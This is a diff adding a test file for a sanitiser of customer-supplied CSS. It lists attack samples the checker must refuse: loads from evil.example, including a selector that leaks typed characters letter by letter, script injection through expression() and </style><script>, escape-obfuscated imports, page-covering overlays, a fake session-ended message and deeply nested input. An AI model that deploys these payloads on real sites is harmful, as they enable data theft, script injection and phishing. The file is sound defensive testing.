@@ -1,0 +1,120 @@
+import { CLIENT_CSS_MAX_FAULTS } from '@reviews/domain';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { checkClientCss, cssFaultTexts } from './client-css.ts';
+
+/** What is tried, and what it is told. */
+const ATTACKS: readonly (readonly [what: string, css: string, told: RegExp])[] = [
+  // Loading from elsewhere: another sheet, an image, a font, and every way to say url.
+  ['another sheet', '@import url("https://evil.example/a.css");', /@import/],
+  ['another sheet by a text', '@import "//evil.example/a.css";', /@import/],
+  ['another sheet within a rule for screens', '@media screen { @import "a.css"; }', /@import/],
+  ['another sheet by an escape', '@\\69mport "a.css";', /not allowed/],
+  ['an image', 'a { background: url(https://evil.example/a.png) }', /Nothing is loaded/],
+  ['an image in quotes', 'a { background-image: url("https://evil.example/?x") }', /Nothing is loaded/],
+  ['an image of the page itself', 'a { background: url(data:image/svg+xml,<svg/>) }', /Nothing is loaded/],
+  ['an image by an escape', 'a { background: u\\72l(a.png) }', /not understood|not allowed here/],
+  ['an image in capitals', 'a { background: URL(//evil.example/a.png) }', /Nothing is loaded/],
+  ['an image by a set', 'a { background: image-set("a.png" 1x) }', /Nothing is loaded/],
+  ['an image by src()', 'a { background: src("a.png") }', /Nothing is loaded/],
+  ['an image by cross-fade()', 'a { background: cross-fade(url(a.png), red) }', /Nothing is loaded/],
+  ['an image by a variable', 'a { --client-x: url(//evil.example/a.png); background: var(--client-x) }', /Nothing is loaded/],
+  ['an image where a variable is missing', 'a { background: var(--client-x, url(//evil.example/a.png)) }', /Nothing is loaded/],
+  ['a font', '@font-face { font-family: x; src: url(//evil.example/x.woff2) }', /@font-face/],
+  ['what was typed, letter by letter', 'input[value^="a"] { background: url(//evil.example/a) }', /Nothing is loaded/],
+  ['a sheet under another alphabet', '@charset "utf-7"; a { color: red }', /@charset/],
+  ['another language of names', '@namespace svg url(http://www.w3.org/2000/svg);', /@namespace/],
+  // Running something.
+  ['an expression', 'a { color: expression(alert(1)) }', /expression\(\)/],
+  ['a behaviour', 'a { behavior: url(a.htc) }', /behavior/],
+  ['a binding', 'a { -moz-binding: url(a.xml#x) }', /-moz-binding/],
+  ['a filter', 'a { filter: progid:DXImageTransform.Microsoft.gradient() }', /filter|not CSS/],
+  ['a script behind the sheet', 'a { color: red } </style><script>alert(1)</script>', /Tags of HTML/],
+  ['a script in a comment', '/* </style><script>alert(1)</script> */', /Tags of HTML/],
+  ['the comment of a page', '<!-- a { color: red } -->', /Tags of HTML/],
+  ['a script by its address', 'a { background: javascript:alert(1) }', /./],
+  // Covering, moving, hiding.
+  ['a layer over everything', 'div { position: fixed; inset: 0; z-index: 9999 }', /position/],
+  ['the same by an escape', 'div { posi\\74ion: fixed }', /not allowed here/],
+  ['the same by a hack', 'div { *position: fixed; _position: fixed }', /not allowed here/],
+  ['a shadow over everything', 'a { box-shadow: 0 0 0 9999px #fff }', /too large/],
+  ['the same by a large number', 'a { box-shadow: 0 0 0 1e9px #fff }', /too large/],
+  ['the same by arithmetic', 'a { box-shadow: 0 0 0 calc(60px * 100) #fff }', /calc\(\)/],
+  ['the same by the window', 'a { padding: 100vh }', /vh/],
+  ['the same by a variable', ':root { --client-x: 9999px } a { outline: var(--client-x) solid red }', /too large/],
+  ['what is drawn over others by moving', 'a { margin: -64px }', /move things/],
+  ['the same where a variable is missing', 'a { margin: var(--client-x, -64px) }', /move things/],
+  ['lines as high as the window where a variable is missing', 'a { line-height: var(--client-x, 900) }', /too large/],
+  ['a large measure of the widgets', 'a { padding: var(--mantine-breakpoint-xl) }', /--mantine-breakpoint-xl/],
+  ['the same by an escape', 'a { padding: var(\\2d-mantine-breakpoint-xl) }', /./],
+  ['the same as what another variable holds', ':root { --client-x: var(--mantine-breakpoint-xl) } a { padding: var(--client-x) }', /--mantine-breakpoint-xl/],
+  ['spaces as wide as the window', 'header { padding: 200% }', /too large/],
+  ['the same by a variable', ':root { --client-x: 100% } header { margin-left: var(--client-x) }', /too large/],
+  ['the same by a transformation', 'a { transform: scale(100) }', /transform/],
+  ['nothing to be seen', 'header { display: none }', /display/],
+  ['the same by transparency', 'header { opacity: 0 }', /opacity/],
+  ['the same by its visibility', 'header { visibility: hidden }', /visibility/],
+  ['the same by a clip', 'header { clip-path: inset(100%) }', /clip-path/],
+  ['nothing to be pressed', 'button { pointer-events: none }', /pointer-events/],
+  ['another pointer', '* { cursor: none }', /cursor/],
+  ['words of its own', 'body::after { content: "Your session has ended. Call 555" }', /content/],
+  ['everything at once', '* { all: unset }', /all/],
+  ['what moves', '@keyframes x { to { translate: 100% } }', /@keyframes/],
+  ['the layers of the product', '@layer base { a { color: red } }', /@layer/],
+  ["the product's measures", ':root { --bar-height: 64px }', /--bar-height/],
+  ["the widgets' measures", ':root { --mantine-z-index-modal: 1 }', /--mantine-z-index-modal/],
+  ['a variable for all', '@property --client-x { syntax: "*"; inherits: true }', /@property/],
+  // Against whoever reads it.
+  ['what never ends', 'a { color: red; }} b {{{', /not CSS/],
+  ['what is nested without end', `${'a{'.repeat(5000)}`, /nested too deeply/],
+  ['brackets without end', `a { color: ${'('.repeat(5000)} }`, /nested too deeply/],
+  ['a text without end', 'a { font-family: "x\n; position: fixed }', /./],
+];
+
+describe("the check of a company's own style", () => {
+  it.each(ATTACKS)('[RT-48] refuses %s', (_what, css, told) => {
+    const { faults, sheet } = checkClientCss(css);
+    expect(sheet).toBeNull();
+    expect(faults.map(({ text }) => text).join('\n')).toMatch(told);
+  });
+
+  it.each([
+    ['colours and corners of the product', ':root { --accent-fill: #123456; --radius: 2px }', ':root{--accent-fill:#123456;--radius:2px}'],
+    ['variables of its own', ':root { --client-gold: oklch(80% 0.1 90) } h1 { color: var(--client-gold, gold) }', ':root{--client-gold:oklch(80%0.1 90)}h1{color:var(--client-gold,gold)}'],
+    ['what is important', 'a:hover, a[href^="/pulses"] { text-decoration: underline !important }', 'a:hover,a[href^="/pulses"]{text-decoration:underline!important}'],
+    ['small windows and dark rooms', '@media (width < 600px) and (prefers-color-scheme: dark) { body { line-height: 1.6 } }', '@media (width<600px) and (prefers-color-scheme:dark){body{line-height:1.6}}'],
+    ['rules within rules', 'nav { & a { font-weight: 700; letter-spacing: -0.02em } }', 'nav{& a{font-weight:700;letter-spacing:-0.02em}}'],
+    ['gradients', 'h1 { background: linear-gradient(90deg, #fff 0%, #eee 100%) }', 'h1{background:linear-gradient(90deg,#fff 0%,#eee 100%)}'],
+    ['names of fonts', 'h1 { font-family: "Iowan Old Style", serif }', 'h1{font-family:"Iowan Old Style",serif}'],
+    ['comments, which are not served', '/* the blue of 2024 */ a { color: #0000ff } /*! kept? */', 'a{color:#0000ff}'],
+    ['nothing', '', ''],
+  ])('[RT-48, NAV-31] lets through %s, written anew', (_what, css, sheet) => {
+    const checked = checkClientCss(css);
+    expect(checked.faults).toEqual([]);
+    expect(checked.sheet).toBe(sheet);
+  });
+
+  it('[RT-48] tells the line and the column, in their order, and counts what is beyond the first few', () => {
+    const told = cssFaultTexts(checkClientCss('a {\n  color: red;\n  position: fixed;\n}\n\nb { background: url(x) }').faults);
+    expect(told).toEqual([
+      'Line 3, column 3: position is not allowed here. A style says how things look, not where they stand or whether they are there.',
+      'Line 6, column 17: Nothing is loaded by a style. A logo can be uploaded above.',
+    ]);
+    const many = cssFaultTexts(checkClientCss('a { float: left }\n'.repeat(CLIENT_CSS_MAX_FAULTS + 3)).faults);
+    expect(many).toHaveLength(CLIENT_CSS_MAX_FAULTS + 1);
+    expect(many.at(-1)).toBe('And 3 more.');
+  });
+
+  it('[RT-48] says the same of what it serves as of what it was given, and never fails, whatever is typed', () => {
+    const pieces = fc.constantFrom(...ATTACKS.map(([, css]) => css.slice(0, 60)), 'a', '{', '}', ';', ':', 'color', 'red', '\\', '"', "'", '/*', '*/', '@media', '(', ')', 'url(', '\u0000', '\uFEFF', '--client-x', 'var(--ink)', '64px', '!important', ',', '\n', '<', '>');
+    fc.assert(
+      fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
+        const { sheet } = checkClientCss(parts.join(' '));
+        if (sheet === null) return;
+        expect(sheet).not.toMatch(/url\(|@import|<\/|position/i);
+        expect(checkClientCss(sheet)).toEqual({ faults: [], sheet });
+      }),
+      { numRuns: 1000 },
+    );
+  });
+});
